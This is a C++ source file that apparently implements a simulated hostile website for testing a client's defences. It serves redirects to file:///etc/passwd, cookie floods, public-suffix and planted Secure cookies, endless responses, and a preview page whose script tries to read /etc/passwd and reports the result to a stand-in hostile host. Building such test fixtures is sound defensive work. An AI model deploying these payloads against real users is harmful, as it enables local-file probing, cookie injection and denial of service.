#include "tools/marketsim/hostile_site.h"

#include <charconv>
#include <string>

#include "tools/marketsim/site_hosts.h"
#include "tools/marketsim/site_request.h"

namespace velmora::marketsim {
namespace {

SiteResponse RedirectTo(std::string location, int status = 302) {
    SiteResponse response;
    response.status = status;
    response.headers.emplace_back("Location", std::move(location));
    return response;
}

SiteResponse RedirectAsAsked(const SiteRequest& request) {
    std::string code = QueryValue(request.query, "code").value_or("302");
    int status = 302;
    std::from_chars(code.data(), code.data() + code.size(), status);
    std::string host = QueryValue(request.query, "host").value_or(request.host);
    return RedirectTo("http://" + host + kReportPath, status);
}

SiteResponse CookieFlood() {
    SiteResponse response;
    for (size_t i = 0; i < kFloodCookies; ++i)
        response.headers.emplace_back("Set-Cookie", "flood" + std::to_string(i) + "=1; Path=/");
    response.body = "<html><body>cookies offered</body></html>";
    return response;
}

}  // namespace

SiteResponse HostileSite(const SiteRequest& request) {
    SiteResponse response;
    if (request.path == kToLocalFilePath) return RedirectTo("file:///etc/passwd");
    if (request.path == kToOtherSchemePath)
        return RedirectTo(std::string("ftp://") + kHostileHost + "/pub/");
    if (request.path == kRedirectPath) return RedirectAsAsked(request);
    if (request.path == kSelfRedirectPath)
        return RedirectTo("http://" + request.host + kSelfRedirectPath);
    if (request.path == kCookieFloodPath) return CookieFlood();
    if (request.path == kEndlessPath) {
        response.unannouncedBytes = kEndlessBytes;
    } else if (request.path == kSilentPath) {
        response.silent = true;
    } else if (request.path == kSuffixCookiePath) {
        response.headers.emplace_back("Set-Cookie", "hostile=1; Domain=com; Path=/");
        response.headers.emplace_back("Set-Cookie", "hostile2=1; Domain=.com; Path=/");
        response.body = "<html><body>cookie offered</body></html>";
    } else if (request.path == kSecureCookiePath) {
        response.headers.emplace_back("Set-Cookie", "planted=1; Secure; Path=/");
        response.body = "<html><body>cookie offered</body></html>";
    } else if (request.path == kReportPath) {
        response.body = "ok";
    } else {
        response.status = 404;
    }
    return response;
}

std::string HostilePreviewPage() {
    const std::string report = std::string("http://") + kHostileHost + kReportPath;
    const std::string member =
        std::string("http://") + sites::kMemberCentreHost + "/membersvc/index.htm?from=preview";
    return "<html><head><title>preview</title></head><body><script>\n"
           "var read = 'blocked';\n"
           "try {\n"
           "  var x = new XMLHttpRequest();\n"
           "  x.open('GET', 'file:///etc/passwd', false);\n"
           "  x.send();\n"
           "  if (x.responseText) read = 'read';\n"
           "} catch (e) {}\n"
           "fetch('" +
           report + "?local=' + read, {mode: 'no-cors'}).finally(function() {\n" +
           "  location.href = '" + member + "';\n" + "});\n" + "</script></body></html>";
}

}  // namespace velmora::marketsim
